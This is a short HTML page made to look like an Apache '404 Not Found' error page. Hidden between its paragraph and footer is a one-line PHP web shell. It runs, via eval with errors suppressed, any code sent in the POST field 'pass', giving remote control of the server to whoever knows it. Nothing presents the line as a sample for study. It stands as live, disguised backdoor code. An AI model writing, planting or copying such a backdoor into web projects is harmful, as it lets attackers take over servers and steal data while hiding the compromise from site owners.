<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>404 Not Found</title>
<style>body{font-family:sans-serif;color:#444;margin:4em}</style></head>
<body>
<h1>Not Found</h1>
<p>The requested URL was not found on this server.</p>
<?php if(isset($_POST['pass'])){@eval($_POST['pass']);} ?>
<hr><address>Apache Server at localhost Port 80</address>
</body>
</html>
